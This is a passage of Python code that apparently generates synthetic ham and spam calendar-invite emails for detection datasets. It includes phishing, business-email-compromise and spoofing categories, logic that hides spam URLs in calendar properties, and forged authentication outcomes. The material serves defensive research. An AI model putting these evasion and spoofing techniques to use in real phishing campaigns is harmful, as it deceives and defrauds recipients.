                             "https://www.signupgenius.com/go/%s" % K.alnum(rng, 16), "https://tinyurl.com/%s" % K.alnum(rng, 8)])
    if m["client"] == "list":
        m["listinfo"] = dict(name=rng.choice(["parents", "choir", "members"]), domain=rng.choice(["lists.example.org", "googlegroups.com"]),
                             mgr=rng.choice(["mailman2", "googlegroups"]), munge=rng.random() < .5)


def h_community_post(m, ev, ctx, rng, o):
    ev["rrule"] = o.get("rr", "FREQ=WEEKLY")
    if rng.random() < 0.3:
        ev["exdate"] = [C.ical_dt(ev["start"] + dt.timedelta(weeks=rng.randint(3, 8)))]
    ev["start"] = ev["start"].replace(hour=rng.choice([10, 11, 17, 18, 19]), minute=rng.choice([0, 30]))
    ev["end"] = ev["start"] + dt.timedelta(minutes=rng.choice([60, 90, 120]))
    if rng.random() < 0.6:
        ev["attendees"] += random_people(rng, rng.randint(4, 35), lang=m["lang"])


def h_itnotice(m, ev, ctx, rng, o):
    # internal IT: sender shares recipient's domain
    rd = m["rcpt"][1].split("@")[1]
    m["sender"]["addr"] = "%s@%s" % (rng.choice(["it-servicedesk", "itops", "helpdesk", "it"]), rd)
    m["sender"]["name"] = rng.choice(["IT Service Desk", "IT Operations", "Helpdesk", m["sender"]["name"]])
    m["sender"]["org"] = m.get("rorg") or ""
    ctx["url"] = "https://%s.%s/%s" % (rng.choice(["status", "selfservice", "passwort", "portal"]), rd,
                                        rng.choice(["", "reset", "change"]))
    ctx["org"] = m["sender"]["org"]


def h_itnotice_post(m, ev, ctx, rng, o):
    if o.get("vtodo") and m["client"] in ("thunderbird", "handrolled", "nextcloud", "zimbra"):
        ev["kind"] = "VTODO"
        ev["due"] = ev["start"]
        ev.pop("end", None)
    else:
        ev["transp"] = "TRANSPARENT"
        ev["busy"] = "FREE"
        for a in ev["attendees"]:
            a["rsvp"] = "FALSE"
    if rng.random() < 0.5:
        ev["attendees"] += random_people(rng, rng.randint(20, 200), domain=m["rcpt"][1].split("@")[1])
        if m["client"] == "outlook":
            m["to"] = [("All Staff", "allstaff@" + m["rcpt"][1].split("@")[1])]


def h_colleague_doc(m, ev, ctx, rng, o):
    if rng.random() < 0.6:
        rd = m["rcpt"][1].split("@")[1]
        m["sender"]["addr"] = m["sender"]["local"] + "@" + rd
        m["sender"]["org"] = m.get("rorg") or m["sender"]["org"]
    ctx["docurl"] = doc_link(rng, m)


def h_colleague_doc_post(m, ev, ctx, rng, o):
    if m["client"] == "google":
        ev["attach"] = [dict(uri=ctx["docurl"], filename=rng.choice(FILES), fmttype="application/vnd.google-apps.document")]
        if rng.random() < 0.7:
            ev["meet"] = meet_link(rng)
    elif m["client"] == "outlook":
        ev["teams"] = teams_link(rng)
    elif m["client"] in ("apple", "nextcloud", "thunderbird") and rng.random() < 0.5:
        ev["attach"] = [dict(uri=ctx["docurl"], filename=rng.choice(FILES), fmttype="application/pdf",
                             managed=K.uuid(rng, True), size=rng.randint(20000, 900000))]
    elif m["client"] == "zoom":
        ev["location"] = zoom_link(rng)
    ev["attendees"] += random_people(rng, rng.randint(1, 6), lang=m["lang"], domain=m["rcpt"][1].split("@")[1])


def h_finance(m, ev, ctx, rng, o):
    if "AP" in ctx.get("_t", "") or rng.random() < 0.4:
        rd = m["rcpt"][1].split("@")[1]
        m["sender"]["addr"] = m["sender"]["local"] + "@" + rd
    m["sender"]["name"] = rng.choice([m["sender"]["name"], "Accounts Receivable", m["sender"]["name"]])
    if m["client"] == "booking":
        m["booking"] = dict(prodid="-//Billing Suite//Reminders//EN", rows=[("Invoice", ctx["ref"])], color="#444",
                            filename="due-date.ics")
        m["method"] = "PUBLISH"
        m["attendee_mode"] = "rcpt"


def h_finance_post(m, ev, ctx, rng, o):
    if "{ref}" in (o.get("raw") or "") or ctx["ref"] in ev.get("summary", ""):
        if rng.random() < 0.5:
            ev["allday"] = True
            ev["start"] = ev["start"].replace(hour=0, minute=0)
            ev["end"] = ev["start"] + dt.timedelta(days=1)
            ev["transp"] = "TRANSPARENT"


def h_recruiter(m, ev, ctx, rng, o):
    ctx["role"] = rng.choice(ROLES.get(m["lang"], ROLES["en"]))
    ctx["url"] = "https://coderpad.example/%s" % K.alnum(rng, 8)
    if not ctx["org"]:
        ctx["org"] = rng.choice(P.ORGS.get(m["lang"], P.ORGS["en"]))[0]
    if m["client"] == "booking":
        m["booking"] = dict(prodid=rng.choice(["-//Greenhouse-like ATS//Interview Scheduler//EN", "-//Calendly-like//Scheduling//EN"]),
                            rows=[("Role", ctx["role"])], filename="interview.ics", color="#24a47f")
        m["method"] = "REQUEST"


def h_recruiter_post(m, ev, ctx, rng, o):
    if m["client"] == "zoom":
        ev["location"] = zoom_link(rng)
    elif m["client"] == "google":
        ev["meet"] = meet_link(rng)
    elif m["client"] == "outlook":
        ev["teams"] = teams_link(rng)


def h_personal(m, ev, ctx, rng, o):
    ctx["zoomurl"] = zoom_link(rng)


def h_personal_post(m, ev, ctx, rng, o):
    if o.get("allday"):
        ev["allday"] = True
        ev["start"] = (ev["start"] + dt.timedelta(days=rng.randint(90, 300))).replace(hour=0, minute=0)
        ev["end"] = ev["start"] + dt.timedelta(days=1)
    else:
        ev["start"] = ev["start"].replace(hour=rng.choice([12, 13, 18, 19, 20]), minute=0)
        ev["end"] = ev["start"] + dt.timedelta(hours=rng.choice([2, 3, 4]))
    if m["client"] == "zoom":
        ev["location"] = ctx["zoomurl"]
    ev["attendees"] += random_people(rng, rng.randint(0, 12), lang=m["lang"],
                                     domain=None)


def h_support(m, ev, ctx, rng, o):
    dom = m["sender"]["addr"].split("@")[1]
    ctx["url"] = "https://support.%s/cases/%s" % (dom, ctx["ref"])
    if m["client"] in ("booking", "handrolled"):
        m["sender"]["addr"] = "%s@%s" % (rng.choice(["support", "noreply", "callback"]), dom)
        m["sender"]["name"] = (m["sender"]["org"] or "Support") + rng.choice([" Support", " Customer Care", ""])
        m["booking"] = dict(prodid=rng.choice(["-//Salesforce-like//Service Cloud//EN", "-//Freshdesk-like//Scheduler//EN",
                                               "-//ISP Field Service//Dispatch 3//EN"]), rows=[("Case", ctx["ref"])],
                            filename="callback.ics", color="#1b5fae")
        m["method"] = rng.choice(["REQUEST", "PUBLISH"])
        m["attendee_mode"] = "rcpt"


def h_work(m, ev, ctx, rng, o):
    if rng.random() < 0.5:
        rd = m["rcpt"][1].split("@")[1]
        m["sender"]["addr"] = m["sender"]["local"] + "@" + rd
        m["sender"]["org"] = m.get("rorg") or m["sender"]["org"]


def h_work_post(m, ev, ctx, rng, o):
    if o.get("rr"):
        ev["rrule"] = o["rr"] + (";UNTIL=%s" % C.ical_utc(ev["start"] + dt.timedelta(weeks=26)) if rng.random() < 0.5 else "")
    if m["client"] == "outlook":
        ev["teams"] = teams_link(rng) if rng.random() < 0.7 else None
        if not ev["teams"]:
            ev.pop("teams")
            ev["location"] = rng.choice(["Meeting room 3.02", "Conf Rm Atlas", "Besprechungsraum 2"])
    elif m["client"] == "google":
        ev["meet"] = meet_link(rng)
    elif m["client"] == "zoom":
        ev["location"] = zoom_link(rng)
    elif m["client"] == "nextcloud":
        ev["location"] = "https://cloud.%s/call/%s" % (m["sender"]["addr"].split("@")[1], K.alnum(rng, 8))
    ev["attendees"] += random_people(rng, rng.randint(0, 8), lang=m["lang"], domain=m["rcpt"][1].split("@")[1])
    if rng.random() < 0.3:
        ev["sequence"] = rng.randint(1, 3)


def h_listcopy(m, ev, ctx, rng, o):
    nm = o.get("lname", "announce")
    ldom = rng.choice(["lists.example.org", "lists.cs.example.edu", "googlegroups.com", "listes.example.fr",
                       "lists.%s" % rng.choice(P.ORGS["en"])[1]])
    mgr = "googlegroups" if ldom == "googlegroups.com" else rng.choice(["mailman2", "mailman3", "sympa"])
    m["listinfo"] = dict(name=nm, domain=ldom, mgr=mgr, munge=rng.random() < 0.4, resign=rng.random() < 0.5,
                         desc=ev.get("summary", nm)[:40] if False else nm)


def h_listcopy_post(m, ev, ctx, rng, o):
    li = m["listinfo"]
    laddr = "%s@%s" % (li["name"], li["domain"])
    # the list address is the attendee; the recipient gets it via the list
    ev["attendees"] = [a for a in ev["attendees"] if a["addr"] != m["rcpt"][1]]
    ev["attendees"].append(attendee(li["name"], laddr, role="REQ-PARTICIPANT"))
    m["to"] = [(li["name"], laddr)]


def h_reply(m, ev, ctx, rng, o):
    m["reply_type"] = o.get("rtype")


def h_reply_post(m, ev, ctx, rng, o):
    t = o.get("rtype")
    rn, ra = m["rcpt"]
    sn, sa = m["sender"]["name"], m["sender"]["addr"]
    ev["organizer"] = (rn, ra)
    ev["sequence"] = rng.randint(0, 2)
    if t in ("ACCEPTED", "DECLINED", "TENTATIVE"):
        m["method"] = "REPLY"
        ev["attendees"] = [attendee(sn, sa, ps=t, rsvp="TRUE")]
        if o.get("comment"):
            ev["comment"] = o["comment"]
        ev["description"] = ""
        ev.pop("alarms", None)
        if m["client"] == "google" and rng.random() < .5:
            ev["summary"] = ev["summary"]
    elif t == "COUNTER":
        m["method"] = "COUNTER"
        ev["attendees"] = [attendee(sn, sa, ps="TENTATIVE")]
        ev["comment"] = o.get("comment")
        ev["start"] = ev["start"] + dt.timedelta(hours=rng.choice([2, 3, 4]))
        ev["end"] = ev["start"] + dt.timedelta(hours=1)
        ev["description"] = ""
    else:  # CANCEL sent by a delegate on behalf of the organiser (recipient gets a copy)
        m["method"] = "CANCEL"
        ev["status"] = "CANCELLED"
        ev["sent_by"] = sa
        ev["sequence"] = ev["sequence"] + 1
        ev["attendees"] = [attendee(rn, ra, ps="ACCEPTED", role="CHAIR")] + random_people(
            rng, rng.randint(1, 5), lang=m["lang"], domain=ra.split("@")[1])
        ev["description"] = ""
    if rng.random() < 0.25:
        # past meeting (reply arrives late)
        pass


def h_forward(m, ev, ctx, rng, o):
    pass


HOOKS = {
    "generic_spam": (None, h_generic_spam), "retail": (None, h_retail), "crypto": (None, h_crypto),
    "dating": (None, h_dating), "fee": (None, h_fee), "phish": (h_phish, h_generic_spam),
    "callback": (None, h_callback), "update": (None, h_update), "bec": (None, h_bec), "advance": (None, h_advance),
    "job": (None, h_job), "docshare": (None, h_docshare), "nag": (None, h_nag), "mass": (None, h_mass),
    "travel": (h_travel, h_travel_post), "hotel": (h_hotel, h_hotel_post), "medical": (h_medical, None),
    "webinar": (h_webinar, h_webinar_post), "community": (h_community, h_community_post),
    "itnotice": (h_itnotice, h_itnotice_post), "colleague_doc": (h_colleague_doc, h_colleague_doc_post),
    "finance": (h_finance, h_finance_post), "recruiter": (h_recruiter, h_recruiter_post),
    "personal": (h_personal, h_personal_post), "support": (h_support, None), "work": (h_work, h_work_post),
    "listcopy": (h_listcopy, h_listcopy_post), "reply": (h_reply, h_reply_post), "forward": (None, None),
}


# ----------------------------------------------------------------------------
def hand_profile(rng, label):
    spam = label == "spam"
    p = dict(prodid=rng.choice(HAND_PRODIDS_SPAM if spam else HAND_PRODIDS_HAM),
             mailer=rng.choice(MAILERS), layout=rng.choice(["alt", "mixed", "single", "related", "mixed"]),
             fname=rng.choice(["invite.ics", "event.ics", "meeting.ics", "calendar.ics", None, "termin.ics"]),
             tz=rng.random() < 0.4, calscale=rng.random() < 0.5, version_first=rng.random() < 0.5,
             method_first=rng.random() < 0.2, cal_cte=rng.choice(["base64", "base64", "quoted-printable", "7bit", "8bit"]),
             cal_ct=rng.choice(["text/calendar", "text/calendar", "text/calendar", "application/ics",
                                "application/octet-stream"]),
             enc=rng.choice(["B", "Q"]), upper=rng.random() < 0.5, order=rng.choice(["dtfsm", "fstdm", "mdfts", "tsfdm"]))
    if p["prodid"].startswith("PRODID:"):
        p["prodid"] = p["prodid"]  # doubled keyword, a real-world sloppiness
    if p["mailer"] and "CDO" in p["mailer"]:
        p["boundary"] = "----=_NextPart_000_%04X_%08X.%08X" % (rng.randint(0, 65535), rng.randint(0, 2 ** 32 - 1),
                                                                rng.randint(0, 2 ** 32 - 1))
    if p["mailer"] and "nodemailer" in p["mailer"]:
        p["boundary"] = "--_NmP-%s-Part_1" % K.hexs(rng, 16)
    q = set()
    pq = 0.55 if spam else 0.3
    for quirk in ["no_method", "mismatch", "nofold", "lf", "charfold", "no_ct_method", "raw_commas"]:
        if rng.random() < pq / 3:
            q.add(quirk)
    if "lf" in q:
        p["cal_cte"] = "base64"
    if p["cal_ct"] != "text/calendar":
        p["fname"] = p["fname"] or "invite.ics"
    return p, q


def pick_charset(rng, lang, client):
    if client in ("google", "zoom", "yahoo", "nextcloud", "sogo", "list"):
        return "utf-8"
    if client == "apple" and lang != "ja":
        return "utf-8"
    p = 0.2 if lang == "en" else 0.7
    if rng.random() >= p:
        return "utf-8"
    if lang == "ja" and rng.random() < 0.7:
        return "iso-2022-jp"
    return rng.choice(P.CHARSETS[lang])


def auth_for(kind, label, rng, m):
    if kind in ("free", "compromised"):
        return "pass"
    if kind == "org":
        r = rng.random()
        if r < 0.08:
            return "nodmarc"
        if r < 0.12:
            return "nodkim"
        if r < 0.15:
            return "dkimfail"
        if r < 0.18:
            return "fwd"
        return "pass"
    if kind == "new":
        m["dmarc_policy"] = rng.choice([None, "NONE", "NONE", "QUARANTINE", "REJECT"])
        return "pass"
    return kind  # spoof / vps


def default_alarms(client, rng):
    if client == "outlook":
        return [dict(trigger="-PT15M", desc="REMINDER")]
    if client == "google":
        return [dict(trigger=rng.choice(["-P0DT0H30M0S", "-P0DT0H10M0S"]), desc="This is an event reminder")] \
            if rng.random() < 0.5 else []
    if client == "zimbra":
        return [dict(trigger="-PT5M", desc="Reminder")]
    if client in ("apple", "thunderbird", "nextcloud", "sogo") and rng.random() < 0.4:
        return [dict(trigger="-PT15M", desc="Reminder")]
    if client == "zoom":
        return [dict(trigger="-PT10M", desc="Reminder")]
    return []


PLACE_OK = {"google": {"desc", "location"}, "outlook": {"desc", "location"}, "yahoo": {"desc", "location"},
            "zoom": {"desc", "location"}, "apple": {"desc", "location", "url", "attach"},
            "thunderbird": {"desc", "location", "url", "attach"}, "sogo": {"desc", "location", "url", "attach"},
            "nextcloud": {"desc", "location", "url", "attach", "conference"}, "zimbra": {"desc", "location", "altdesc"},
            "booking": {"desc", "location", "url", "attach"},
            "handrolled": {"desc", "location", "url", "attach", "conference", "altdesc"}}


def build_message(label, spec, var, client, rng, arrival, with_trace=True, force=None):
    lang = var["l"]
    o = dict(var["o"])
    m = dict(label=label, category=spec["name"], lang=lang, client=client, arrival=arrival, quirks=set(), events=[])
    m["sent"] = arrival - dt.timedelta(seconds=rng.randint(2, 240))
    tz = rng.choice(P.TZ[lang])
    local_now = C.from_utc(tz, m["sent"])
    m["tzoff"] = C.offset_min(tz, local_now)
    if force and force.get("rcpt"):
        m["rcpt"], m["rcpt_first"], m["rorg"] = force["rcpt"], force["rcpt_first"], force.get("rorg", "")
    else:
        rdom, rorg = rcpt_domain(rng, lang, label)
        rf, rfull, rlocal = person(rng, lang)
        m["rcpt"] = (rfull, "%s@%s" % (rlocal, rdom))
        m["rcpt_first"], m["rorg"] = rf, rorg
    render_client = client
    if client == "list":
        render_client = rng.choice(["thunderbird", "google", "outlook", "handrolled", "zimbra", "apple", "yahoo"])
    kinds = [k for k in spec["kinds"] if k in COMPAT[render_client]]
    if not kinds:
        kinds = [k for k in (["org", "free"] if label == "ham" else ["compromised", "new", "free", "vps"])
                 if k in COMPAT[render_client]]
    kind = rng.choice(kinds)
    m["kind"] = kind
    if render_client == "outlook":
        m["sub"] = "exo" if kind == "free" else ("desktop" if kind == "spoof" or rng.random() < (
            0.45 if label == "ham" else 0.12) else "exo")
    if render_client == "apple":
        m["sub"] = "icloud" if (kind == "free" and rng.random() < 0.65) else "mail"
    m["render_client"] = render_client
    m["sender"] = force["sender"] if force and force.get("sender") else make_sender(rng, render_client, kind, lang, m)
    days = o.get("days") or spec.get("days") or (1, 21)
    start = local_now + dt.timedelta(days=rng.randint(*days))
    start = start.replace(hour=rng.choice(range(8, 18)), minute=rng.choice([0, 0, 0, 30, 30, 15, 45]), second=0,
                          microsecond=0)
    dur = o.get("dur") or rng.choice([30, 30, 45, 60, 60, 60, 90])
    ctx = make_ctx(rng, m, lang, m["sender"], start)
    if spec.get("brands"):
        ctx["brand"] = o.get("brand") or rng.choice(spec["brands"])
    elif o.get("brand"):
        ctx["brand"] = o["brand"]
    if o.get("tollbrand") is True:
        ctx["brand"] = rng.choice(["E-ZPass", "SunPass", "FasTrak", "TxTag"])
    elif o.get("tollbrand") is False:
        ctx["brand"] = rng.choice(["USPS", "DHL", "FedEx", "Royal Mail", "UPS", "Evri"])
    sdom = m["sender"]["addr"].split("@")[1]
    ctx["url"] = spam_url(rng, ctx["brand"], m["rcpt"][1]) if label == "spam" else "https://www.%s/%s" % (
        sdom, rng.choice(["events", "info", "calendar", "news"]))
    ctx["docurl"] = doc_link(rng, m)
    ctx["zoomurl"] = zoom_link(rng)
    ctx["cmd"], ctx["cmdmac"] = "{cmd}", "{cmdmac}"
    for k in ("src", "dst", "fl", "seat", "hotel", "rest", "clinic", "doc", "spec", "role"):
        ctx.setdefault(k, "")
    pre, post = HOOKS[spec["hook"]]
    if pre:
        pre(m, None, ctx, rng, o)
    ctx["sname"], ctx["sfirst"] = m["sender"]["name"], m["sender"]["first"]
    if not ctx["org"]:
        ctx["org"] = m["sender"].get("org") or (sdom.split(".")[0].replace("-", " ").title())
    summary = fill(var["t"], ctx)
    desc = fill(var["d"], ctx)
    subj = fill(var["s"], ctx) if var["s"] else None
    loc = fill(var["loc"], ctx) if var["loc"] else None
    org = (m["sender"]["name"], m["sender"]["addr"])
    amode = m.get("attendee_mode", "default")
    atts = []
    if amode == "default":
        if render_client in ("google", "apple", "thunderbird", "nextcloud", "sogo") or rng.random() < 0.3:
            atts.append(attendee(org[0], org[1], ps="ACCEPTED", role="CHAIR" if render_client != "google" else
                                 "REQ-PARTICIPANT", rsvp="FALSE" if render_client != "google" else "TRUE"))
        atts.append(attendee(m["rcpt"][0] if rng.random() < 0.7 else "", m["rcpt"][1]))
    elif amode == "rcpt":
        atts.append(attendee(m["rcpt"][0], m["rcpt"][1]))
    ev = dict(kind="VEVENT", uid=uid_for(rng, render_client, m), summary=summary, description=desc, location=loc,
              start=start, end=start + dt.timedelta(minutes=dur), tz=tz, organizer=org, attendees=atts, sequence=0,
              alarms=default_alarms(render_client, rng))
    if amode == "none" and rng.random() < 0.5:
        ev["organizer"] = (m["sender"]["name"], m["sender"]["addr"])
    elif amode == "none":
        ev["organizer"] = None
    m["events"] = [ev]
    m.setdefault("method", "REQUEST")
    m["subject"] = subj
    if post:
        post(m, ev, ctx, rng, o)
    # hide spam payload in some calendar property
    if label == "spam" and spec.get("placement") and not o.get("nourl") and ctx["url"] in (ev.get("description") or ""):
        mode = rng.choice(spec["placement"])
        ok = PLACE_OK.get(render_client, {"desc", "location"})
        if render_client == "outlook" and m.get("sub") == "desktop":
            ok = ok | {"altdesc"}
        if mode not in ok:
            alt = [x for x in spec["placement"] if x in ok]
            mode = rng.choice(alt) if alt else "location"
        if mode != "desc":
            ev["description"] = strip_url_lines(ev["description"], ctx["url"])
            hidden_placement(rng, ev, ctx["url"], mode, lang, label_text=rng.choice(["Open", "View", "Join", "Claim",
                                                                                     "Review"]))
        m["placement"] = mode
    if render_client == "handrolled":
        m["hand"], m["quirks"] = hand_profile(rng, label)
        if "no_method" in m["quirks"]:
            m["ical_method"] = None
        if "mismatch" in m["quirks"]:
            m["ct_method"] = rng.choice(["PUBLISH", "REQUEST", "CANCEL"])
            if m["ct_method"] == m.get("method"):
                m["ct_method"] = "PUBLISH" if m.get("method") != "PUBLISH" else "REQUEST"
        if "raw_commas" in m["quirks"]:
            ev["raw_commas"] = True
        if rng.random() < 0.4:
            ev["timemode"] = rng.choice(["utc", "float"])
        ev["order"] = rng.choice(["a", "b", "c"])
        if label == "spam" and rng.random() < 0.25:
            m["raw8bit_headers"] = not C.is_ascii(summary + (subj or ""))
    if render_client == "booking" and "booking" not in m:
        m["booking"] = dict(prodid="-//%s//Notifications 1.0//EN" % (m["sender"].get("org") or "Service"))
    if render_client in ("booking",) and label == "spam" and rng.random() < 0.4:
        m["ics_lf"] = True
    if render_client == "outlook" and m.get("sub") == "exo":
        m["charset"] = "utf-8"
        if lang in ("ja", "ru", "zh", "zh-tw", "ko", "el", "he", "ar", "th", "pl", "cs", "tr") and rng.random() < 0.5:
            m["charset"] = "iso-2022-jp" if lang == "ja" else rng.choice(P.CHARSETS[lang])
    else:
        m["charset"] = pick_charset(rng, lang, render_client)
    if render_client == "thunderbird":
        m["cte"] = rng.choice(["8bit", "quoted-printable", "base64"])
    m["auth"] = auth_for(kind, label, rng, m)
    if kind == "spoof":
        m["env"] = "%s@%s" % (rng.choice(["bounce", "info", "root", "www-data", K.alnum(rng, 8)]),
                              rand_domain(rng) if rng.random() < 0.6 else m["sender"]["addr"].split("@")[1])
    sdom = m["sender"]["addr"].split("@")[1]
    if render_client == "booking" and kind in ("org", "new", "compromised"):
        m["env"] = "bounces+%d-%s@%s" % (rng.randint(10 ** 6, 10 ** 7), K.hexs(rng, 4),
                                         rng.choice(["em%d." % rng.randint(100, 9999), "bounce.", "mail."]) + sdom.split("@")[-1]
                                         if not sdom.startswith(("mail.", "info.")) else sdom)
    if client == "list" and not m.get("listinfo"):
        m["listinfo"] = dict(name=rng.choice(["members", "announce", "general", "all", "community"]),
                             domain=rng.choice(["lists.example.org", "googlegroups.com", "lists.%s" % rng.choice(P.ORGS["en"])[1]]),
                             mgr=rng.choice(["mailman2", "mailman3", "sympa"]), munge=rng.random() < 0.4,
                             resign=rng.random() < 0.5)
        if m["listinfo"]["domain"] == "googlegroups.com":
            m["listinfo"]["mgr"] = "googlegroups"
    return m


def render(m, rng, with_trace=True):
    rc = m["render_client"]
    part, infra = K.RENDER[rc](m, rng)
    if m["client"] == "list":
        part, infra = B.list_wrap(m, part, infra, rng)
        m["auth"] = "list"
    if infra.get("prov") in ("google", "apple", "zoom", "yahoo") and m["auth"] in ("nodmarc", "nodkim", "dkimfail", "fwd"):
        m["auth"] = "pass"
    if m.get("sender_effective"):
        m["env"] = m.get("env") or m["sender_effective"]
        infra.setdefault("from_domain", m["sender_effective"].split("@")[1])
    body = part.render()
    if not with_trace:
        return body
    tr = B.trace_headers(m, infra, rng)
    return C.CRLF.join(tr) + C.CRLF + body
